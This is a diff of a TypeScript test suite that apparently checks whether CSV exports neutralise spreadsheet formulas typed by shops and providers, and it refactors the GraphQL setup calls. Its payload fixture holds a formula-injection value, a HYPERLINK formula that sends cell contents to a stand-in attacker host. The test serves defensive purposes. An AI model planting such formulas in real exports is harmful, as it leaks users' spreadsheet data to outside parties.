@@ -1,8 +1,9 @@
 import { parse } from 'csv-parse/sync';
-import { aProviderInput, aShopInput, REGISTER_PROVIDER, REGISTER_SHOP, signUp, staffUser, SignedIn } from '../testing/fixtures';
+import { CreateHelpRequestDocument, DecideProviderDocument, RegisterProviderDocument, RegisterShopDocument } from '../gql/generated';
+import { aProviderInput, aShopInput, signUp, staffUser, SignedIn } from '../testing/fixtures';
 import { applyTo } from '../testing/match-fixtures';
 import { publishedOffer } from '../testing/offer-fixtures';
-import { startTestApp, TestApp } from '../testing/test-app';
+import { dataOf, member, startTestApp, TestApp } from '../testing/test-app';
 
 const PAYLOADS = {
   shop: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -24,20 +25,15 @@ describe('CSV exports neutralise formulas typed by shops and providers (a databa
     api = await startTestApp({ ownDatabase: true });
     staff = await staffUser(api);
     const owner = await signUp(api, 'PROVIDER');
-    const registered = await api.gqlAs<{ registerProvider: { id: string } }>(owner.accessToken, REGISTER_PROVIDER, { input: aProviderInput({ name: PAYLOADS.provider }) });
-    const providerId = registered.data?.registerProvider.id;
-    if (!providerId) throw new Error(`registerProvider failed: ${JSON.stringify(registered.errors)}`);
-    await api.gqlAs(staff.accessToken, 'mutation ($input: VerifyProviderInput!) { verifyProvider(input: $input) { __typename } }', { input: { providerId, decision: 'APPROVED' } });
+    const registered = await api.gqlAs(owner.accessToken, RegisterProviderDocument, { input: aProviderInput({ name: PAYLOADS.provider }) });
+    const providerId = member(dataOf(registered).registerProvider, 'Provider').id;
+    member(dataOf(await api.gqlAs(staff.accessToken, DecideProviderDocument, { input: { providerId, decision: 'APPROVED' } })).verifyProvider, 'Provider');
     const offer = await publishedOffer(api, owner, { title: PAYLOADS.offer });
     const shop = await signUp(api, 'SHOP');
     const shopInput = aShopInput({ comuneCode: '001272', legalName: PAYLOADS.shop, tradingName: PAYLOADS.trading, address: PAYLOADS.address });
-    const shopResult = await api.gqlAs<{ registerShop: { __typename: string } }>(shop.accessToken, REGISTER_SHOP, { input: shopInput });
-    expect(shopResult.data?.registerShop.__typename).toBe('Shop');
-    const request = await api.gqlAs<{ createHelpRequest: { id: string } }>(shop.accessToken, 'mutation ($input: CreateHelpRequestInput!) { createHelpRequest(input: $input) { ... on HelpRequest { id } } }', {
-      input: { category: 'ONLINE_STORE', description: PAYLOADS.request },
-    });
-    const requestId = request.data?.createHelpRequest.id;
-    if (!requestId) throw new Error(`createHelpRequest failed: ${JSON.stringify(request.errors)}`);
+    member(dataOf(await api.gqlAs(shop.accessToken, RegisterShopDocument, { input: shopInput })).registerShop, 'Shop');
+    const request = await api.gqlAs(shop.accessToken, CreateHelpRequestDocument, { input: { category: 'ONLINE_STORE', description: PAYLOADS.request } });
+    const requestId = member(dataOf(request).createHelpRequest, 'HelpRequest').id;
     await applyTo(api, shop, requestId, offer.id);
   });
   afterAll(() => api.close());
